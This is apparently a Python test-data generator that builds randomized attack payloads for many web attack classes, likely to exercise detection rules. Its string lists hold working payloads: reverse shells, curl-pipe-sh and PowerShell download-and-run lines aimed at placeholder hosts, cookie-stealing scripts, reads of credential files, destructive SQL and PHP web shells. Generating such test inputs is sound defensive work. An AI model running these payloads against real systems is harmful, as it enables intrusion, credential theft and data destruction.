"""Attack payloads composed by grammar, seeded: each class has a few dozen shapes with open slots.

Written from an understanding of the attack classes; nothing here is copied from a public collection, and
the rules are not written from this file. A payload is text as the app's interpreter would have to receive it.
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable
from typing import Final

Shape = Callable[[random.Random], str]


def _word(r: random.Random, low: int = 3, high: int = 8) -> str:
    return "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(low, high)))


def _num(r: random.Random) -> int:
    return r.choice([0, 1, 2, 5, 7, 42, 99, 1337, r.randint(10, 99999)])


def _mixed(r: random.Random, text: str) -> str:
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in text)


def _case(r: random.Random, text: str) -> str:
    return r.choice([text, text.upper(), _mixed(r, text)])


# ------------------------------------------------------------------------------------------------------------ SQL


def _quote(r: random.Random) -> str:
    return r.choice(["'", "'", '"', "')", "'))", '")', ""])


def _end(r: random.Random) -> str:
    return r.choice([" -- ", "-- -", "#", ";-- ", "/*", "", " --+"])


def _truth(r: random.Random, quote: str) -> str:
    n, w = _num(r), _word(r)
    bare = [f"{n}={n}", f"{n} = {n}", f"{n}<{n + 1}", f"{n} between {n - 1} and {n + 1}", f"not {n}={n + 1}", "true",
            f"{n} in ({n})", f"{n} like {n}", f"length('{w}')={len(w)}", f"exists(select {n})", f"{n} is not null"]  # fmt: skip
    if quote.startswith("'"):
        bare += [f"'{w}'='{w}", f"'{w}' like '{w[0]}%", f"'{n}'<>'{n + 1}"]
    if quote.startswith('"'):
        bare += [f'"{w}"="{w}', f'"{w}" like "{w[0]}%']
    return r.choice(bare)


def _tautology(r: random.Random) -> str:
    quote = _quote(r)
    lead = r.choice(["", _word(r), str(_num(r)), "admin", "-1"]) or ("" if quote else "1")
    gap = r.choice([" ", " ", "  ", "/**/", "\t", "\n"])
    op = r.choice([_case(r, "or"), _case(r, "and"), "||", "&&", _case(r, "xor"), _case(r, "or not")])
    if op == "or not":
        return f"{lead}{quote}{gap}{op}{gap}{_num(r)}=0{_end(r)}"
    truth = _truth(r, quote)
    closed = truth.count("'") % 2 == 0 and truth.count('"') % 2 == 0
    return f"{lead}{quote}{gap}{op}{gap}{truth}{_end(r) if closed else ''}"


def _union(r: random.Random) -> str:
    gap = r.choice([" ", " ", "/**/", "+", "%0a", "\n", "  ", "/*x*/"]).replace("%0a", "\n").replace("+", " ")
    columns = [str(_num(r)) for _ in range(r.randint(0, 4))] + [
        r.choice(["version()", "user()", "@@version", "password", "null", "table_name", "group_concat(name)",
                  "concat(login,0x3a,pass)", "char(65,66)", "banner", "sql"])]  # fmt: skip
    r.shuffle(columns)
    source = r.choice(["", f"{gap}from{gap}users", f"{gap}from{gap}information_schema.tables", f"{gap}from{gap}dual",
                       f"{gap}from{gap}sqlite_master", f"{gap}from{gap}mysql.user", f"{gap}from{gap}{_word(r)}"])  # fmt: skip
    words = [
        _case(r, "union"),
        *r.choice([[], [_case(r, "all")], [_case(r, "distinct")]]),
        _case(r, "select"),
    ]
    lead = r.choice(["-1", "1", "0", _word(r), ""]) + _quote(r)
    return f"{lead}{gap}{gap.join(words)}{gap}{','.join(columns)}{source}{_end(r)}"


def _timed(r: random.Random) -> str:
    s = r.randint(3, 20)
    call = r.choice([f"sleep({s})", f"(select sleep({s}))", f"benchmark({s}000000,md5({_num(r)}))", f"pg_sleep({s})",
                     f"(select * from (select(sleep({s})))a)", f"dbms_pipe.receive_message(('a'),{s})"])  # fmt: skip
    waiting = r.choice(
        [
            f"; waitfor delay '0:0:{s}'",
            f";select pg_sleep({s})",
            f"; exec master..xp_cmdshell 'ping -n {s} 127.0.0.1'",
        ]
    )
    lead = r.choice(["1", _word(r), ""]) + _quote(r)
    joiner = r.choice([" and ", " or ", "||", " AND ", "/**/and/**/", "+"])
    return f"{lead}{waiting}{_end(r)}" if r.random() < 0.35 else f"{lead or '1'}{joiner}{call}{_end(r)}"


def _errors(r: random.Random) -> str:
    inner = r.choice(
        ["user()", "@@version", "database()", "(select table_name from information_schema.tables limit 1)"]
    )
    lead = r.choice(["1", _word(r)]) + _quote(r)
    return lead + r.choice([
        f" and extractvalue({_num(r)},concat(0x7e,{inner})){_end(r)}",
        f" and updatexml(null,concat(0x3a,{inner}),null){_end(r)}",
        f" or {_num(r)} group by concat({inner},floor(rand(0)*2)) having min(0){_end(r)}",
        f" and 1=convert(int,{inner}){_end(r)}",
        f" and 1=cast({inner} as int){_end(r)}",
        f" and 1=ctxsys.drithsx.sn(1,(select user from dual)){_end(r)}",
    ])  # fmt: skip


def _blind(r: random.Random) -> str:
    lead = r.choice(["1", _word(r)]) + _quote(r)
    n = r.randint(1, 9)
    return lead + r.choice([
        f" and ascii(substring((select password from users limit 1),{n},1))>{r.randint(40, 110)}{_end(r)}",
        f" and substr(version(),{n},1)='{n}'{_end(r)}",
        f" and (select count(*) from {_word(r)})>{n}{_end(r)}",
        f" and if(ord(mid(user(),{n},1))={r.randint(60, 120)},1,0){_end(r)}",
        f" and case when (1={n}) then 1 else 1/0 end{_end(r)}",
        f" and length(database())={n}{_end(r)}",
        f" rlike (select (case when ({n}={n}) then 1 else 0x28 end)){_end(r)}",
        f" order by {r.randint(5, 60)}{_end(r) or '-- '}",
    ])  # fmt: skip


def _stacked(r: random.Random) -> str:
    lead = r.choice(["1", _word(r)]) + _quote(r)
    t = _word(r)
    return lead + ";" + r.choice([" ", ""]) + r.choice([
        f"drop table {t}{_end(r)}", f"delete from {t} where 1=1{_end(r)}",
        f"insert into {t} values ('{_word(r)}','{_word(r)}'){_end(r)}",
        f"update {t} set password='{_word(r)}' where id=1{_end(r)}", f"shutdown{_end(r) or '--'}",
        f"create table {t}(c text); copy {t} from '/etc/passwd'{_end(r)}",
        f"declare @q varchar(99);set @q=0x{_word(r).encode().hex()};exec(@q){_end(r)}",
        f"select load_file('/etc/passwd'){_end(r)}", f"select {_num(r)} into outfile '/var/www/{t}.php'{_end(r)}",
    ])  # fmt: skip


# ------------------------------------------------------------------------------------------------------------ XSS


def _js(r: random.Random) -> str:
    n = _num(r)
    return r.choice([f"alert({n})", "alert(document.domain)", f"prompt({n})", "confirm`1`", "eval(name)",
                     f"fetch('//{_word(r)}.example/'+document.cookie)", f"window['al'+'ert']({n})", "top.alert(1)",
                     f"import('//{_word(r)}.example')", f"self[atob('YWxlcnQ=')]({n})", "print()",
                     f"location='//{_word(r)}.example/?'+document.cookie", f"setTimeout('alert({n})')",
                     f"[{n}].find(alert)", f"new Function('alert({n})')()", f"document.write('<img src=//{_word(r)}.example>')"])  # fmt: skip


_HANDLERS: Final = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter",
                    "onanimationstart", "onbegin", "onwheel", "onpageshow", "onauxclick", "oncut")  # fmt: skip


def _script(r: random.Random) -> str:
    tag = _case(r, "script")
    return r.choice(["", '">', "'>", "</title>", "</textarea>", "-->"]) + r.choice([
        f"<{tag}>{_js(r)}</{tag}>", f"<{tag} src=//{_word(r)}.example></{tag}>", f"<{tag}/{_word(r)}>{_js(r)}</{tag}>",
        f"<{tag} src='https://{_word(r)}.example/{_word(r)}.js'></{tag}>", f"<{tag} type=module>{_js(r)}</{tag}>",
        f"<{tag}\n>{_js(r)}</{tag}\n>",
    ])  # fmt: skip


def _handler(r: random.Random) -> str:
    h, js = _case(r, r.choice(_HANDLERS)), _js(r)
    sep = r.choice([" ", "/", "\t", "\n", " x=1 "])
    value = r.choice(
        [js.replace(" ", ""), f'"{js}"' if '"' not in js else js, f"'{js}'" if "'" not in js else js]
    )
    return r.choice(["", '">', "'>", "</script>"]) + r.choice([
        f"<img{sep}src=x{sep}{h}={value}>", f"<svg{sep}{h}={value}>", f"<body{sep}{h}={value}>",
        f"<details open{sep}{h}={value}>", f"<video><source{sep}{h}={value}>", f"<input autofocus{sep}{h}={value}>",
        f"<{_word(r)}{sep}{h}={value} tabindex=1>{_word(r)}", f"<a{sep}{h}={value}>{_word(r)}</a>",
        f"<svg><animate{sep}{h}={value} attributeName=x dur=1s>", f"<iframe{sep}{h}={value}>",
        f"<math><mi//xlink:href=\"data:x,\"{sep}{h}={value}>",
    ])  # fmt: skip


def _breakout(r: random.Random) -> str:
    h, js = r.choice(_HANDLERS), _js(r)
    return r.choice([
        f'" {h}={js.replace(chr(34), "")} autofocus x="', f"' {h}={js.replace(chr(39), '')} x='",
        f"';{js}//", f'";{js}//', f"'-{js}-'", f'"+{js}+"', f"\\';{js}//", f"${{{js}}}", f"`;{js};`",
        f"'}};{js};{{'", f"*/{js}/*", f"\n{js}\n//';{js}//",
    ])  # fmt: skip


def _url_js(r: random.Random) -> str:
    scheme = r.choice(["javascript:", "JaVaScRiPt:", "java\tscript:", "javascript\n:", "&#106;avascript:", " javascript:",
                       "javascript://%0a", "vbscript:"])  # fmt: skip
    js = _js(r)
    data = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    return r.choice([
        f"{scheme}{js}", f'<a href="{scheme}{js.replace(chr(34), "")}">x</a>', f"<iframe src={scheme}{js.replace(' ', '')}>",
        f"data:text/html,<script>{js}</script>", f"data:text/html;base64,{data}", f"<object data={scheme}{js.replace(' ', '')}>",
        f"<form action={scheme}{js.replace(' ', '')}><input type=submit>", f'<iframe srcdoc="<script>{js.replace(chr(34), "")}</script>">',
        f"<base href={scheme}//>", f"<embed src={scheme}{js.replace(' ', '')}>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={js.replace(chr(39), '')}>#x'>",
    ])  # fmt: skip


# -------------------------------------------------------------------------------------------------------- commands

_TARGETS: Final = ("/etc/passwd", "/etc/shadow", "/proc/self/environ", "~/.ssh/id_rsa", "/var/log/auth.log")


def _command(r: random.Random) -> str:
    host = f"{_word(r)}.example"
    return r.choice([
        f"cat {r.choice(_TARGETS)}", "id", "whoami", "uname -a", f"curl http://{host}/{_word(r)}|sh", f"wget -qO- {host}/x | bash",
        f"nc -e /bin/sh {host} {r.randint(1000, 9999)}", f"bash -i >& /dev/tcp/10.0.0.{r.randint(1, 254)}/{r.randint(1000, 9999)} 0>&1",
        f"ping -c {r.randint(1, 20)} 127.0.0.1", f"sleep {r.randint(3, 20)}", "ls -la /", f"nslookup {host}", "ps aux", "env",
        "python3 -c 'import os;os.system(\"id\")'", "perl -e 'system(\"id\")'", f"echo {_word(r)} > /tmp/{_word(r)}",
        f"rm -rf /tmp/{_word(r)}", "ifconfig", "netstat -an", f"head -n 3 {r.choice(_TARGETS)}", f"base64 {r.choice(_TARGETS)}",
    ])  # fmt: skip


def _unix(r: random.Random) -> str:
    command = _command(r)
    disguise = r.choice(["plain", "plain", "plain", "ifs", "quotes", "backslash", "glob", "brace", "var"])
    first, _, rest = command.partition(" ")
    if disguise == "ifs" and rest:
        command = f"{first}${{IFS}}{rest.replace(' ', '${IFS}')}"
    elif disguise == "quotes" and len(first) > 2:
        command = f"{first[0]}''{first[1:]} {rest}".strip()
    elif disguise == "backslash" and len(first) > 2:
        command = f"{first[0]}\\{first[1:]} {rest}".strip()
    elif disguise == "glob":
        command = "/b?n/c?t /e??/p?ss*"
    elif disguise == "brace":
        command = f"{{cat,{r.choice(_TARGETS)}}}"
    elif disguise == "var":
        command = "a=c;b=at;$a$b /etc/passwd"
    lead = r.choice(["", _word(r), "127.0.0.1", f"{_word(r)}.txt", '"', "'"])
    return lead + r.choice([f";{command}", f"; {command}", f"| {command}", f"|{command}", f"&& {command}", f"|| {command}",
                            f"$({command})", f"`{command}`", f"\n{command}", f"& {command} &", f";{command};", f"$({command})#"])  # fmt: skip


def _windows(r: random.Random) -> str:
    command = r.choice([
        "dir c:\\", "type c:\\windows\\win.ini", "net user", f"ping -n {r.randint(2, 20)} 127.0.0.1", "whoami /all", "ipconfig /all",
        f"certutil -urlcache -f http://{_word(r)}.example/{_word(r)}.exe {_word(r)}.exe", "systeminfo", "tasklist",
        f"powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://{_word(r)}.example/a.ps1')\"",
        f"powershell -enc {base64.b64encode(_word(r, 20, 30).encode('utf-16-le')).decode()}",
        "cmd /c whoami", "reg query HKLM\\SAM", f"net user {_word(r)} {_word(r)} /add", "c^md /c d^ir", f"bitsadmin /transfer x http://{_word(r)}.example/a c:\\a",
    ])  # fmt: skip
    return r.choice(["", _word(r)]) + r.choice(["&", "|", "&&", "||", "& ", "| "]) + command


# ------------------------------------------------------------------------------------------------- paths, URLs, XML


def _traversal(r: random.Random) -> str:
    up = r.choice(
        ["../", "..\\", "....//", "..;/", "../", "..%2f", "%2e%2e/", "..%c0%af", ".%2e/", "..%5c", "..%252f"]
    )
    file = r.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "etc/hosts", "boot.ini",
                     "var/log/apache2/access.log", "WEB-INF/web.xml", ".env", "root/.ssh/id_rsa", "etc/passwd%00.png"])  # fmt: skip
    return r.choice(["", "/", f"{_word(r)}/", "file/", "images/"]) + up * r.randint(2, 9) + file


def _file(r: random.Random) -> str:
    return r.choice(["/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
                     "c:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/cmdline", "/etc/shadow", "php://input",
                     f"zip://{_word(r)}.jpg#{_word(r)}.php", f"phar://{_word(r)}.jpg/{_word(r)}", "expect://id",
                     "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "/var/www/html/.env", "/root/.bash_history"])  # fmt: skip


def _ssrf(r: random.Random) -> str:
    return r.choice([
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:22/", "http://[::1]:6379/",
        "http://2130706433/admin", "http://0x7f000001/", "http://0177.0.0.1/", "http://localhost:8080/manager/html",
        "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stat", "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.1/server-status", "http://[::ffff:169.254.169.254]/latest/", "http://100.100.100.200/latest/meta-data/",
        "http://0/", f"http://{_word(r)}.example@127.0.0.1/", "http://127.0.0.1.nip.io/admin", "ldap://127.0.0.1:389/",
    ])  # fmt: skip


def _xxe(r: random.Random) -> str:
    n, e = _word(r), _word(r)
    return r.choice([
        f'<?xml version="1.0"?><!DOCTYPE {n} [<!ENTITY {e} SYSTEM "file:///etc/passwd">]><{n}>&{e};</{n}>',
        f'<!DOCTYPE {n} [<!ENTITY % {e} SYSTEM "http://{_word(r)}.example/{_word(r)}.dtd"> %{e};]><{n}/>',
        f'<?xml version="1.0"?><!DOCTYPE {n} PUBLIC "-//x" "http://{_word(r)}.example/a.dtd"><{n}/>',
        f'<{n} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></{n}>',
    ])  # fmt: skip


# --------------------------------------------------------------------------------------------------- code, templates


def _ssti(r: random.Random) -> str:
    a, b = r.randint(2, 99), r.randint(2, 99)
    return r.choice([
        f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"#{{{a}*{b}}}", f"<%= {a}*{b} %>", f"*{{{a}*{b}}}", f"@({a}*{b})",
        "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self.__init__.__globals__.__builtins__}}",
        "{{request.application.__globals__}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#set($x=7*7)$x", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{php}echo `id`;{/php}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{['id']|filter('system')}}", "${{7*7}}", "<%= system('id') %>",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "${''.getClass().forName('java.lang.Runtime')}",
        "{{constructor.constructor('alert(1)')()}}", "{{#with \"s\" as |string|}}{{/with}}{{lookup this 'constructor'}}",
    ])  # fmt: skip


def _code(r: random.Random) -> str:
    return r.choice([
        "<?php system($_GET['c']); ?>", "<?= `id` ?>", "phpinfo()", "eval(base64_decode('cGhwaW5mbygpOw=='))", "${@print(md5(1))}",
        "assert($_POST['x'])", "';system('id');//", "require('child_process').exec('id')", "process.mainModule.require('fs').readFileSync('/etc/passwd')",
        "__import__('os').system('id')", "eval(compile('import os','x','exec'))", "';phpinfo();'", "global.process.mainModule.constructor._load('child_process')",
        "java.lang.Runtime.getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()", "exec(open('/etc/passwd').read())",
        "call_user_func('system','id')", "create_function('','system(id);')", "preg_replace('/a/e','phpinfo()','a')",
        "<?php eval($_REQUEST[1]);", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "Kernel.exec('id')", "IO.popen('id').read", "os.execute('id')",
    ])  # fmt: skip


def _serialised(r: random.Random) -> str:
    return r.choice([
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvcnhwP0AAAAAAAAx3CAAAABAAAAABc3I=",
        f'O:{len("Evil")}:"Evil":1:{{s:3:"cmd";s:2:"id";}}', 'a:1:{i:0;O:8:"stdClass":0:{}}',
        "AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0uV2luZG93cy5Gb3Jtcw==", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
        "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}',
        "cos\nsystem\n(S'id'\ntR.", '--- !ruby/object:Gem::Installer\ni: x',
    ])  # fmt: skip


def _log4shell(r: random.Random) -> str:
    host, scheme = f"{_word(r)}.example", r.choice(["ldap", "ldaps", "rmi", "dns", "iiop"])
    jndi = r.choice(["jndi", "${lower:j}ndi", "j${lower:n}di", "${::-j}${::-n}${::-d}${::-i}", "${upper:j}ndi", "jn${env:X:-d}i",
                     "${${lower:j}}ndi", "j${k8s:k5:-ND}i", "${date:'j'}ndi"])  # fmt: skip
    return f"${{{jndi}:{scheme}://{host}/{_word(r)}}}"


def _nosql(r: random.Random) -> str:
    return r.choice(['{"$ne":null}', '{"$gt":""}', '{"$where":"this.a==1"}', '{"$regex":"^a"}', "' || this.password.match(/.*/)//+%00",
                     '{"$or":[{"a":1},{"b":2}]}', "';return true;var x='", '{"username":{"$nin":["x"]},"password":{"$gt":""}}',
                     "1, $where: '1 == 1'", "' && this.constructor.constructor('return process')()//", '{"$function":{"body":"function(){return 1}"}}'])  # fmt: skip


def _ldap(r: random.Random) -> str:
    w = _word(r)
    return r.choice(
        [
            "*)(uid=*))(|(uid=*",
            f"{w})(&)",
            f"{w}*)(|(password=*))",
            "*)(objectClass=*",
            "admin)(|(cn=*))",
            f"{w})(!(&(1=0)",
            "*))%00",
        ]
    )


def _xpath(r: random.Random) -> str:
    n = _num(r)
    return r.choice([f"' or '{n}'='{n}", "'] | //user/*[contains(*,'", "x' or name()='username' or 'x'='y", f"' and count(/*)={n} and '1'='1",
                     f"' or string-length(//user[1]/password)>{n} or ''='", f"admin' or position()={n} or ''='"])  # fmt: skip


def _crlf(r: random.Random) -> str:
    w = _word(r)
    return w + r.choice(["\r\nSet-Cookie: a=b", "\r\n\r\n<script>alert(1)</script>", "\nLocation: http://evil.example", "\r\nX-Injected: 1",
                         "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n", "%0d%0aSet-Cookie:%20x=y", "\nBcc: a@b.example"])  # fmt: skip


def _prototype(r: random.Random) -> str:
    w = _word(r)
    return r.choice([f'{{"__proto__":{{"{w}":true}}}}', f'{{"constructor":{{"prototype":{{"{w}":1}}}}}}', f"__proto__[{w}]=1",
                     f"constructor.prototype.{w}=1", f"__proto__.{w}=x"])  # fmt: skip


SHAPES: Final[dict[str, tuple[Shape, ...]]] = {
    "sqli": (_tautology, _tautology, _union, _timed, _errors, _blind, _stacked),
    "xss": (_script, _handler, _handler, _breakout, _url_js),
    "rce-unix": (_unix,),
    "rce-windows": (_windows,),
    "lfi": (_traversal, _traversal, _file),
    "ssrf": (_ssrf,),
    "xxe": (_xxe,),
    "ssti": (_ssti,),
    "code": (_code,),
    "deserialization": (_serialised,),
    "log4shell": (_log4shell,),
    "nosql": (_nosql,),
    "ldap": (_ldap,),
    "xpath": (_xpath,),
    "crlf": (_crlf,),
    "prototype": (_prototype,),
}
"""Attack class to the shapes it is composed of; a shape named twice is drawn twice as often."""


def payload(kind: str, r: random.Random) -> str:
    """One payload of a class, drawn by `r`."""
    return r.choice(SHAPES[kind])(r)
